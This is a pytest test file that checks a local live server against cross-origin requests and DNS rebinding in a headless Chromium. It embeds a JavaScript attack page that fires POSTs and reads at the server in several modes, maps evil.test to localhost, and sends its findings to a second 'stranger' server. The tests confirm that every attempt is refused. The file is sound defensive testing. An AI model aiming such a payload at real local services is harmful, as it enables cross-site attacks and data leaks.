"""What pages of strangers in a real browser get from the live server: nothing, and no work is done for them."""

import html
import http.server
import json
import os
import signal
import subprocess
import threading
from contextlib import contextmanager

import pytest
from browser import executable_path
from live_server import serving

ATTACK = """<!doctype html><title>attack</title><script>
const target = "http://127.0.0.1:PORT", question = '{"number": 1}';
const post = (mode, type) => fetch(target + "/sample",
  {method: "POST", mode, body: question, headers: {"Content-Type": type}});
const tries = {
  plain: () => post("no-cors", "text/plain"),
  form: () => post("no-cors", "application/x-www-form-urlencoded"),
  json: () => post("cors", "application/json"),
  bytes: () => post("cors", "application/octet-stream"),
  read: () => fetch(target + "/arch"),
  blind: () => fetch(target + "/arch", {mode: "no-cors"}),
  picture: () => new Promise((resolve, reject) => Object.assign(new Image(),
    {onload: () => resolve({type: "loaded"}), onerror: reject, src: target + "/pages/live.html"})),
};
(async () => {
  const found = {from: location.origin};
  for (const [name, run] of Object.entries(tries)) {
    try { const answer = await run(); found[name] = answer.text ? answer.type + await answer.text() : answer.type; }
    catch (error) { found[name] = "failed"; }
  }
  await fetch("http://127.0.0.1:OTHER/report", {method: "POST", mode: "no-cors", body: JSON.stringify(found)});
})();
</script>FRAMES"""


class Stranger(http.server.BaseHTTPRequestHandler):
    """A server of somebody else: gives out the attack, and hears what came of it."""

    page = b""
    reports: list[dict] = []
    heard = threading.Semaphore(0)

    def do_GET(self):
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(self.page)

    def do_POST(self):
        self.reports.append(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
        self.do_GET()
        self.heard.release()

    def log_message(self, format, *args):
        pass


@pytest.fixture(scope="module")
def live(tmp_path_factory):
    with serving(tmp_path_factory.mktemp("live")) as live:
        yield live


@pytest.fixture
def command(tmp_path):
    """A browser of its own, in which evil.test leads to this machine; flags and an address follow."""
    chromium = executable_path()
    if chromium is None:
        missing = "needs a browser: chromium on the PATH"
        pytest.fail(missing) if os.environ.get("CI") else pytest.skip(missing)
    rules = "--host-resolver-rules=MAP evil.test 127.0.0.1"
    quiet = ("--no-sandbox", "--disable-gpu", "--disable-background-networking", "--no-first-run")
    return [chromium, "--headless", *quiet, f"--user-data-dir={tmp_path / 'profile'}", rules]


def shown(command, address: str) -> str:
    """The page at an address, as the browser shows it."""
    ended = subprocess.run([*command, "--dump-dom", address], capture_output=True, text=True, timeout=120, check=True)
    return html.unescape(ended.stdout)


def test_a_name_that_was_pointed_here_gets_no_page(live, command):
    before = live.ask("/ready").json
    page = shown(command, f"http://evil.test:{live.port}/")
    assert "this server is known as 127.0.0.1:" in page and "drawing-place" not in page
    assert ("GET", "/", 421) in live.seen and live.ask("/ready").json == before
    assert "drawing-place" in shown(command, live.address)


@contextmanager
def visited(command, address: str):
    """The browser looks at the page within the block."""
    process = subprocess.Popen([*command, address], stderr=subprocess.DEVNULL, start_new_session=True)
    try:
        yield
    finally:
        os.killpg(process.pid, signal.SIGKILL)
        process.wait()


def test_pages_of_other_ports_names_and_files_can_neither_ask_nor_read(live, command, tmp_path):
    before, start = live.ask("/ready").json, len(live.seen)
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Stranger) as stranger:
        threading.Thread(target=stranger.serve_forever).start()
        other = stranger.server_address[1]
        attack = ATTACK.replace("PORT", str(live.port)).replace("OTHER", str(other))
        Stranger.page = attack.replace("FRAMES", "").encode()
        frames = "".join(f"<iframe src='http://{name}:{other}/'></iframe>" for name in ("127.0.0.1", "evil.test"))
        (tmp_path / "page.html").write_text(attack.replace("FRAMES", frames))
        with visited(command, (tmp_path / "page.html").as_uri()):
            heard = [Stranger.heard.acquire(timeout=60) for _ in range(3)]
        stranger.shutdown()
    assert all(heard)
    assert len({report["from"] for report in Stranger.reports}) == 3
    for report in Stranger.reports:
        assert {*report.values()} - {report["from"]} <= {"failed", "opaque"}, report
    reached = live.seen[start:]
    assert len(reached) >= 3 * 4 and {status for _, _, status in reached} <= {403, 405, 415, 421}, reached
    assert {method for method, _, _ in reached} >= {"GET", "POST"}
    assert live.ask("/ready").json == before
